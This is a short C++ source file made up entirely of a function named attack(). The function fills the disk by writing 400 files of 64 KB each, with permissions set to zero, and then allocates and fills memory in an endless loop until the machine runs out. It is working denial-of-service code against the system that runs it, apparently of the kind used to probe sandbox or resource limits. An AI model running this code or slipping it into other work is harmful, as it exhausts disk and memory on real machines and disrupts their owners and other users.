#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <unistd.h>

static char piece[1 << 16];

void attack() {
  for (int i = 0; i < 400; i++) {
    char name[20];
    snprintf(name, sizeof name, "file-%d", i);
    int file = open(name, O_CREAT | O_WRONLY, 0);
    write(file, piece, sizeof piece);
    close(file);
  }
  for (;;)
    if (void *more = malloc(1 << 16)) memset(more, 1, 1 << 16);
}
